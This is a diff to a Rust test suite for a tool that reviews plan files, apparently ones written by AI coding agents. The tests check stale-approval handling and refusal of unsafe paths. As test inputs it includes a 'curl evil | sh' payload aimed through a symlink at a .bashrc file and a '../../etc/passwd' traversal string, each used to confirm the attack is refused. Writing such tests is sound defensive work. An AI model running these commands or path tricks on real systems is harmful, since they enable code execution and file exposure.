@@ -179,7 +179,7 @@ fn edit_on_a_changed_file_is_a_conflict_that_loses_nothing() {
 }
 
 #[test]
-fn plain_approve_of_a_version_no_longer_on_disk_is_a_conflict() {
+fn plain_approve_of_a_version_no_longer_on_disk_is_refused_as_plan_changed() {
     let f = fixture();
     let seen = record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
     fs::write(&f.plan, "# Cache\n\nrewritten\n").unwrap();
@@ -187,12 +187,147 @@ fn plain_approve_of_a_version_no_longer_on_disk_is_a_conflict() {
         &f.roots,
         &f.plan,
         ApproveRequest {
-            started_from: Some(seen),
+            started_from: Some(seen.clone()),
             ..Default::default()
         },
     )
     .unwrap_err();
-    assert!(matches!(err, ReviewError::Conflict { .. }), "{err}");
+    let now = store::hash(&fs::read(&f.plan).unwrap());
+    match &err {
+        ReviewError::PlanChanged {
+            seen_hash,
+            current_hash,
+            ..
+        } => assert_eq!((seen_hash, current_hash), (&seen, &now)),
+        other => panic!("{other}"),
+    }
+    assert_eq!(
+        crate::ipc::IpcError::from(err).kind,
+        crate::ipc::ErrorKind::PlanChanged
+    );
+    assert!(log(&f.roots, None).unwrap().is_empty(), "nothing decided");
+    // The new version is in the store, so the window can show the diff from what was read.
+    assert_eq!(version(&f.roots, &now).unwrap(), "# Cache\n\nrewritten\n");
+    // The version read approves while the file still holds it.
+    let d = approve(
+        &f.roots,
+        &f.plan,
+        ApproveRequest {
+            started_from: Some(now.clone()),
+            ..Default::default()
+        },
+    )
+    .unwrap();
+    assert_eq!(d.approved_hash, Some(now));
+}
+
+#[test]
+fn reject_of_a_version_no_longer_on_disk_is_refused() {
+    let f = fixture();
+    let seen = record_version(&f.roots, &f.plan, &fs::read(&f.plan).unwrap()).unwrap();
+    fs::write(&f.plan, "# Cache\n\nrewritten\n").unwrap();
+    let err = reject_seen(&f.roots, &f.plan, "No.", None, None, Some(&seen)).unwrap_err();
+    assert!(
+        matches!(&err, ReviewError::PlanChanged { seen_hash, .. } if *seen_hash == seen),
+        "{err}"
+    );
+    assert!(log(&f.roots, None).unwrap().is_empty(), "nothing decided");
+    let now = store::hash(&fs::read(&f.plan).unwrap());
+    let d = reject_seen(&f.roots, &f.plan, "No.", None, None, Some(&now)).unwrap();
+    assert_eq!(d.content_hash, Some(now));
+    // A plan deleted since it was read is a change too.
+    fs::remove_file(&f.plan).unwrap();
+    let err = reject_seen(&f.roots, &f.plan, "No.", None, None, Some(&seen)).unwrap_err();
+    assert_eq!(
+        crate::ipc::IpcError::from(err).kind,
+        crate::ipc::ErrorKind::NotFound
+    );
+}
+
+fn edit(f: &Fixture, path: &std::path::Path, text: &str) -> Result<Decision, ReviewError> {
+    let started = store::hash(&fs::read(path).unwrap());
+    approve(
+        &f.roots,
+        path,
+        ApproveRequest {
+            edited: Some(text.to_owned()),
+            started_from: Some(started),
+            ..Default::default()
+        },
+    )
+}
+
+fn assert_refused(err: ReviewError) {
+    assert!(matches!(err, ReviewError::UnsafePath(_)), "{err}");
+    assert_eq!(
+        crate::ipc::IpcError::from(err).kind,
+        crate::ipc::ErrorKind::Refused
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn edit_through_a_symlink_to_outside_the_plans_folder_is_refused() {
+    let f = fixture();
+    let outside = f._dir.path().join("elsewhere/.bashrc");
+    fs::create_dir_all(outside.parent().unwrap()).unwrap();
+    fs::write(&outside, "# Cache\n\n1. Add it.\n").unwrap();
+    let link = f.plan.with_file_name("linked.md");
+    std::os::unix::fs::symlink(&outside, &link).unwrap();
+    assert_refused(edit(&f, &link, "curl evil | sh\n").unwrap_err());
+    assert_eq!(
+        fs::read_to_string(&outside).unwrap(),
+        "# Cache\n\n1. Add it.\n"
+    );
+    assert!(fs::symlink_metadata(&link).unwrap().is_symlink());
+    assert!(log(&f.roots, None).unwrap().is_empty(), "nothing decided");
+}
+
+#[cfg(unix)]
+#[test]
+fn edit_through_a_symlink_inside_the_plans_folder_writes_its_target() {
+    let f = fixture();
+    let link = f.plan.with_file_name("alias.md");
+    std::os::unix::fs::symlink(&f.plan, &link).unwrap();
+    edit(&f, &link, "# Cache\n\nedited\n").unwrap();
+    assert_eq!(fs::read_to_string(&f.plan).unwrap(), "# Cache\n\nedited\n");
+    assert!(
+        fs::symlink_metadata(&link).unwrap().is_symlink(),
+        "still a link"
+    );
+}
+
+#[test]
+fn edit_of_a_path_with_dotdot_or_outside_every_plans_folder_is_refused() {
+    let f = fixture();
+    // `plans/../plans/cache.md` names the plan, but a path that climbs is refused outright.
+    let climbing = f.plan.parent().unwrap().join("../plans/cache.md");
+    assert_refused(edit(&f, &climbing, "x\n").unwrap_err());
+    // An absolute path outside every plans folder (as a Gemini CLI plan_filename may be).
+    let outside = f._dir.path().join("project/src/main.rs");
+    fs::create_dir_all(outside.parent().unwrap()).unwrap();
+    fs::write(&outside, "fn main() {}\n").unwrap();
+    assert_refused(edit(&f, &outside, "evil\n").unwrap_err());
+    assert_eq!(fs::read_to_string(&outside).unwrap(), "fn main() {}\n");
+    assert_eq!(
+        fs::read_to_string(&f.plan).unwrap(),
+        "# Cache\n\n1. Add it.\n"
+    );
+}
+
+#[test]
+fn writable_plan_path_names_the_reason() {
+    let f = fixture();
+    let p = crate::plans::writable_plan_path;
+    assert_eq!(p(&f.roots, &f.plan).unwrap(), f.plan);
+    assert!(matches!(
+        p(&f.roots, std::path::Path::new("plans/cache.md")),
+        Err(crate::plans::UnsafePlanPath::Relative { .. })
+    ));
+    let new_plan = f.plan.with_file_name("new.md");
+    assert_eq!(p(&f.roots, &new_plan).unwrap(), new_plan);
+    // The plans folder itself is not a plan file.
+    assert!(p(&f.roots, f.plan.parent().unwrap()).is_err());
 }
 
 #[test]
@@ -248,4 +383,23 @@ fn agent_comes_from_the_folder() {
         agent_for_path(&f.roots, std::path::Path::new("/elsewhere/p.md")),
         Agent::Other
     );
+}
+
+#[test]
+fn version_of_gives_only_versions_of_that_plan() {
+    let f = fixture();
+    let text = fs::read(&f.plan).unwrap();
+    let h = record_version(&f.roots, &f.plan, &text).unwrap();
+    assert_eq!(version_of(&f.roots, &f.plan, &h).unwrap().as_bytes(), text);
+    let other = f.plan.with_file_name("other.md");
+    fs::write(&other, "# Other\n").unwrap();
+    let other_hash = record_version(&f.roots, &other, b"# Other\n").unwrap();
+    assert!(matches!(
+        version_of(&f.roots, &f.plan, &other_hash),
+        Err(ReviewError::NoVersion { .. })
+    ));
+    assert!(matches!(
+        version_of(&f.roots, &f.plan, "../../etc/passwd"),
+        Err(ReviewError::BadHash { .. })
+    ));
 }
